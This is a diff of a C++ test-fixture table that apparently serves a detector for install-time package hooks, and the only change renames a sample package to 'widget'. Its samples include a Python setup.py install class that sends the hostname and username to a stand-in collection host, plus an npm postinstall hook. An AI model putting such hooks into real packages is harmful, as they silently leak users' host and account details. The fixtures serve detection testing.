@@ -56,7 +56,7 @@ constexpr Sample samples[] = {
     {.name = "an install hook reports host, user and folder",
      .expect = "index.js:8",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
 ==> index.js
 const os = require("os");
 const https = require("https");
@@ -72,7 +72,7 @@ request.end();
      .expect = "setup.py:8",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 import getpass
@@ -84,10 +84,10 @@ class Install(install):
     def run(self):
         requests.get("https://collect.example.test/", params={"h": socket.gethostname(), "u": getpass.getuser()})
         install.run(self)
-setup(name="sample", version="1.0.0", cmdclass={"install": Install})
+setup(name="widget", version="1.0.0", cmdclass={"install": Install})
 )"},
     {.name = "an installer names only the platform", .expect = silent, .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
 ==> index.js
 const https = require("https");
 https.get(`https://downloads.example.test/tool-${process.platform}-${process.arch}.tgz`);
@@ -95,7 +95,7 @@ https.get(`https://downloads.example.test/tool-${process.platform}-${process.arc
     {.name = "a client says who it is when it is called",
      .expect = silent,
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js"}
+{"name": "widget", "version": "1.0.0", "main": "index.js"}
 ==> index.js
 const https = require("https");
 const os = require("os");
